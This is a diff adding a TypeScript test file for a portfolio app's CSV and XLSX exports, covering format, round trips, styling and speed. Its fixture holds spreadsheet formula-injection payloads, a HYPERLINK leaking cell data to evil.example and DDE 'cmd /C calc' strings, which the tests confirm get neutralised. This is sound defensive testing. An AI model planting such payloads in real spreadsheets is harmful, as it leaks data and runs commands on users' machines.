@@ -1,0 +1,247 @@
+import fs from 'node:fs'
+import { PassThrough } from 'node:stream'
+import ExcelJS from 'exceljs'
+import { describe, expect, it } from 'vitest'
+import { listQuery, PLAN_FILE } from '../../tests/setup/fixtures'
+import { createTestDb, useTestDb } from '../../tests/setup/test-db'
+import { translator } from '../i18n/i18n'
+import { importCsv, importRows } from '../importer/import.server'
+import { readInterchangeCsv, type ImportRow } from '../importer/interchange'
+import { DEFAULT_COLUMNS, type ColumnId } from '../portfolio/columns'
+import { getItemByRef } from '../portfolio/items.server'
+import type { ItemView } from '../portfolio/item-view'
+import { eachItemBatch, listItems } from '../portfolio/list.server'
+import type { ListQuery } from '../portfolio/list-query'
+import { bytesOf, exportItemsCsv, exportItemsXlsx } from './items.server'
+import { USD_MILLION_FORMAT, writeItemsXlsx } from './xlsx.server'
+
+const plan = fs.readFileSync(PLAN_FILE, 'utf8')
+const t = translator('en')
+
+/** The interchange fields of an item: what a round trip must keep. */
+const INTERCHANGE_FIELDS = [
+  'ref', 'strategy', 'pillar', 'area', 'title_en', 'title_zh', 'title_ru', 'modalities', 'proposers', 'status',
+  'start_year', 'end_year', 'cost_usd_m', 'secured_usd_m', 'partners', 'strategic_importance', 'ease_of_implementation',
+  'description_en', 'source',
+] as const
+const fieldsOf = (item: ItemView) => Object.fromEntries(INTERCHANGE_FIELDS.map((f) => [f, item[f]]))
+
+/** A row as the importer takes it, for values no CSV row could give (a title beginning with an apostrophe and "="). */
+function row(ref: string, over: Partial<ImportRow> = {}): ImportRow {
+  return {
+    row: 0, ref, strategy: 'CITA 2030', pillar: null, area: null, title_en: `Item ${ref}`, title_zh: null, title_ru: null,
+    modalities: [], proposers: ['KAZ'], status: 'proposed', start_year: null, end_year: null, cost_kusd: null,
+    secured_kusd: null, partners: [], strategic_importance: null, ease_of_implementation: null, description_en: null,
+    source: null, ...over,
+  }
+}
+
+/** Formula-like text in every kind of text field; "'=x" checks the escape of the escape. */
+const HOSTILE = [
+  row('EVIL-1', {
+    title_en: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    title_zh: '+cmd|" /C calc"!A0',
+    title_ru: '-2+3',
+    description_en: '@SUM(1+1)*cmd|" /C calc"!A0',
+    source: '\t=1+1',
+    partners: ['=ADB', 'World Bank'],
+    pillar: '=Pillar',
+    area: '-Area',
+    cost_kusd: 12_345,
+    secured_kusd: 2_000,
+    start_year: 2025,
+    end_year: 2028,
+  }),
+  row('EVIL-2', { title_en: "'=already escaped looking", description_en: "''-two apostrophes", source: "'plain quote" }),
+]
+/** The plan has no years, amounts or scores: one item with every field, for the round trip. */
+const FULL = row('FULL-1', {
+  pillar: 'Pillar 1: Trade expansion through improved market access', area: '1 Trade policy and measures',
+  title_zh: '全', title_ru: 'Полный, "с кавычками"', modalities: ['investment_project', 'technical_assistance'],
+  proposers: ['UZB', 'KAZ'], status: 'approved', start_year: 2024, end_year: 2030, cost_kusd: 250_500, secured_kusd: 100_001,
+  partners: ['ADB', 'World Bank'], strategic_importance: 4, ease_of_implementation: 2, description_en: 'Line one\nline two, with a comma', source: 'Test',
+})
+
+async function xlsxOf(db: ItemsDb, query: ListQuery, columns: readonly ColumnId[] = DEFAULT_COLUMNS): Promise<ExcelJS.Workbook> {
+  const bytes = await bytesOf(exportItemsXlsx(db, query, { columns, t, exportedAt: '2026-11-25T12:30:00.000Z', exportedBy: 'Test Secretariat', viewUrl: 'http://localhost/items?x' }))
+  const workbook = new ExcelJS.Workbook()
+  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer)
+  return workbook
+}
+type ItemsDb = Parameters<typeof listItems>[0]
+
+const allRefs = async (db: ItemsDb, query: ListQuery) => (await listItems(db, { ...query, pageSize: 200 })).items.map((i) => i.ref)
+
+describe('exports of a portfolio view', () => {
+  const d = useTestDb('all')
+
+  it('loads the plan and a few items with formula-like text', async () => {
+    const outcome = await importCsv(d.db, plan, null)
+    expect(outcome.ok).toBe(true)
+    await importRows(d.db, [...HOSTILE, FULL], null)
+    expect(await allRefs(d.db, listQuery())).toHaveLength(83)
+  })
+
+  describe('reading a whole view a batch at a time', () => {
+    it.each(['ref', '-cost_usd_m', 'status', '-area', 'gap_usd_m'])('gives every item once, in the view order (sort=%s)', async (sort) => {
+      const query = listQuery({ sort, proposers: ['KAZ', 'UZB', 'REG'] })
+      const batches: string[][] = []
+      for await (const batch of eachItemBatch(d.db, query, 7)) batches.push(batch.map((i) => i.ref))
+      expect(batches.length).toBeGreaterThan(2)
+      expect(batches.slice(0, -1).every((b) => b.length === 7)).toBe(true)
+      expect(batches.flat()).toEqual(await allRefs(d.db, query))
+    })
+  })
+
+  describe('CSV', () => {
+    it('is the interchange format: BOM, the interchange header, one record per matching item', async () => {
+      const query = listQuery({ proposers: ['KAZ'], sort: '-cost_usd_m' })
+      const text = (await bytesOf(exportItemsCsv(d.db, query))).toString('utf8')
+      expect(text.startsWith('\uFEFFref,strategy,pillar,area,title_en,title_zh,title_ru,modalities,proposers,status,start_year,end_year,cost_usd_m,secured_usd_m,partners,strategic_importance,ease_of_implementation,description_en,source\r\n')).toBe(true)
+      const parsed = readInterchangeCsv(text)
+      if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors))
+      expect(parsed.rows.map((r) => r.ref)).toEqual(await allRefs(d.db, query))
+    })
+
+    it('neutralises text beginning with = + - @ or a tab, and leaves amounts as plain numbers', async () => {
+      const text = (await bytesOf(exportItemsCsv(d.db, listQuery({ q: 'EVIL-1' })))).toString('utf8')
+      const record = text.split('\r\n')[1]!
+      expect(record).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`)
+      expect(record).toContain(`"'+cmd|"" /C calc""!A0"`)
+      expect(record).toContain(`,'-2+3,`)
+      expect(record).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`)
+      expect(record).toContain(`'\t=1+1`)
+      expect(record).toContain(`,'=ADB;World Bank,`)
+      expect(record).toContain(`,'=Pillar,'-Area,`)
+      expect(record).toContain(',12.345,2,')
+      // No field of the file starts like a formula.
+      for (const line of text.split('\r\n').slice(1)) {
+        expect(line).not.toMatch(/(^|,)"?[=+\-@\t]/)
+      }
+    })
+
+    it('imported into an empty database gives back the same items, field for field', async () => {
+      const csv = await bytesOf(exportItemsCsv(d.db, listQuery()))
+      const empty = await createTestDb()
+      try {
+        const outcome = await importCsv(empty.db, csv, null)
+        if (!outcome.ok) throw new Error(JSON.stringify(outcome.errors))
+        expect(outcome.summary.created).toHaveLength(83)
+        const original = (await listItems(d.db, listQuery({ pageSize: 200 }))).items
+        const copy = (await listItems(empty.db, listQuery({ pageSize: 200 }))).items
+        expect(copy.map(fieldsOf)).toEqual(original.map(fieldsOf))
+        // Including the texts that looked like formulas, exactly as they were stored.
+        expect((await getItemByRef(empty.db, 'EVIL-1'))?.title_en).toBe(HOSTILE[0]!.title_en)
+        expect(fieldsOf((await getItemByRef(empty.db, 'EVIL-2'))!)).toMatchObject({ title_en: "'=already escaped looking", description_en: "''-two apostrophes", source: "'plain quote" })
+      } finally {
+        await empty.close()
+      }
+    })
+
+    it('of the plan alone holds the same rows as the plan file', async () => {
+      const csv = await bytesOf(exportItemsCsv(d.db, listQuery({ q: 'CITA' })))
+      const exported = readInterchangeCsv(csv)
+      const original = readInterchangeCsv(plan)
+      if (!exported.ok || !original.ok) throw new Error('unreadable')
+      const byRef = (rows: ImportRow[]) => rows.map(({ row: _row, ...r }) => r).sort((a, b) => a.ref.localeCompare(b.ref))
+      expect(byRef(exported.rows)).toEqual(byRef(original.rows))
+    })
+  })
+
+  describe('XLSX', () => {
+    it('has the view\'s visible columns under a styled, frozen, filterable header and one row per item', async () => {
+      const query = listQuery({ proposers: ['KAZ'], sort: '-cost_usd_m' })
+      const workbook = await xlsxOf(d.db, query)
+      expect(workbook.worksheets.map((s) => s.name)).toEqual(['Items', 'About this export'])
+      const sheet = workbook.getWorksheet('Items')!
+      const headers = (sheet.getRow(1).values as unknown[]).slice(1)
+      expect(headers).toEqual(['Ref', 'Title', 'Area', 'Type', 'Proposers', 'Status', 'Start year', 'End year', 'Cost (USD m)', 'Gap (USD m)', 'Priority'])
+      expect(sheet.getCell('A1').font?.bold).toBe(true)
+      expect(sheet.getCell('A1').fill).toMatchObject({ type: 'pattern', pattern: 'solid' })
+      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
+
+      const refs = await allRefs(d.db, query)
+      expect(sheet.rowCount).toBe(refs.length + 1)
+      expect(sheet.autoFilter).toBe(`A1:K${refs.length + 1}`)
+      const sheetRefs = Array.from({ length: refs.length }, (_, k) => sheet.getCell(k + 2, 1).value)
+      expect(sheetRefs).toEqual(refs)
+
+      // The first row is the costliest KAZ item: its amounts are numbers in the USD million format.
+      const first = (await listItems(d.db, { ...query, pageSize: 1 })).items[0]!
+      const cost = sheet.getCell('I2')
+      expect(cost.type).toBe(ExcelJS.ValueType.Number)
+      expect(cost.value).toBe(first.cost_usd_m)
+      expect(cost.numFmt).toBe(USD_MILLION_FORMAT)
+      expect(sheet.getCell('J2').value).toBe(first.gap_usd_m)
+      // Years are numbers too (on the first row that has one).
+      const items = (await listItems(d.db, { ...query, pageSize: 200 })).items
+      const dated = items.findIndex((i) => i.start_year !== null)
+      expect(dated).toBeGreaterThanOrEqual(0)
+      expect(sheet.getCell(dated + 2, 7).type).toBe(ExcelJS.ValueType.Number)
+      expect(sheet.getCell(dated + 2, 7).value).toBe(items[dated]!.start_year)
+      expect(sheet.getCell('B2').alignment?.wrapText).toBe(true)
+      expect(sheet.getCell('F2').value).toBe(t(`status.${first.status}`))
+      // Items without a cost have an empty cell, not 0.
+      const noCost = refs.findIndex((_, k) => sheet.getCell(k + 2, 9).value === null)
+      if (noCost >= 0) expect(sheet.getCell(noCost + 2, 9).type).toBe(ExcelJS.ValueType.Null)
+    })
+
+    it('says on a second sheet which filter it holds and when it was made', async () => {
+      const workbook = await xlsxOf(d.db, listQuery({ proposers: ['KAZ'], status: ['proposed', 'endorsed'], q: 'trade', sort: '-cost_usd_m', archived: 'include' }))
+      const about = workbook.getWorksheet('About this export')!
+      const lines = Object.fromEntries(about.getSheetValues().slice(1).map((r) => (r as unknown[]).slice(1, 3)))
+      expect(lines['Exported at']).toBe('2026-11-25 12:30 UTC')
+      expect(lines['Exported by']).toBe('Test Secretariat')
+      expect(lines['Proposers']).toBe('KAZ (Kazakhstan)')
+      expect(lines['Status']).toBe('Proposed, Endorsed')
+      expect(lines['Search (ref and titles)']).toBe('trade')
+      expect(lines['Archived items']).toBe('Show with the others')
+      expect(lines['Sorted by']).toBe('Cost (USD m), descending')
+      expect(lines['Items']).toBe(workbook.getWorksheet('Items')!.rowCount - 1)
+      // With archived items in the view, a column says which are.
+      expect((workbook.getWorksheet('Items')!.getRow(1).values as unknown[]).at(-1)).toBe('Archived')
+    })
+
+    it('of the whole portfolio says there is no filter', async () => {
+      const about = (await xlsxOf(d.db, listQuery())).getWorksheet('About this export')!
+      const lines = Object.fromEntries(about.getSheetValues().slice(1).map((r) => (r as unknown[]).slice(1, 3)))
+      expect(lines['Filters']).toBe('None: every item')
+      expect(lines['Items']).toBe(83)
+    })
+
+    it('keeps formula-like text as neutralised text, and has no formula anywhere', async () => {
+      const workbook = await xlsxOf(d.db, listQuery({ q: 'EVIL' }), ['ref', 'title', 'pillar', 'area', 'cost_usd_m'])
+      const sheet = workbook.getWorksheet('Items')!
+      expect(sheet.getCell('B2').value).toBe(`'${HOSTILE[0]!.title_en}`)
+      expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.String)
+      expect(sheet.getCell('C2').value).toBe("'=Pillar")
+      expect(sheet.getCell('D2').value).toBe("'-Area")
+      expect(sheet.getCell('E2').value).toBe(12.345)
+      expect(sheet.getCell('B3').value).toBe("''=already escaped looking")
+      for (const s of workbook.worksheets) s.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)))
+    })
+
+    it('writes negatives (an oversubscribed gap) as negative numbers', async () => {
+      const out = new PassThrough()
+      const bytes = bytesOf(new ReadableStream({ start: (c) => { out.on('data', (b: Buffer) => c.enqueue(new Uint8Array(b))); out.on('end', () => c.close()) } }))
+      const item = (await getItemByRef(d.db, 'EVIL-1'))!
+      async function* one() { yield [{ ...item, gap_usd_m: -1.5 }] }
+      await writeItemsXlsx(out, one(), { query: listQuery(), columns: ['ref', 'gap_usd_m'], t, exportedAt: '2026-11-25T12:30:00.000Z', exportedBy: 'x', viewUrl: 'x' })
+      const workbook = new ExcelJS.Workbook()
+      await workbook.xlsx.load((await bytes) as unknown as ExcelJS.Buffer)
+      const gap = workbook.getWorksheet('Items')!.getCell('B2')
+      expect(gap.value).toBe(-1.5)
+      expect(gap.type).toBe(ExcelJS.ValueType.Number)
+    })
+  })
+
+  it('of the 80-item plan takes well under 3 seconds, CSV and XLSX', async () => {
+    const started = performance.now()
+    await bytesOf(exportItemsCsv(d.db, listQuery()))
+    const csv = performance.now() - started
+    await xlsxOf(d.db, listQuery(), DEFAULT_COLUMNS)
+    const xlsx = performance.now() - started - csv
+    expect(csv).toBeLessThan(3000)
+    expect(xlsx).toBeLessThan(3000)
+  })
+})
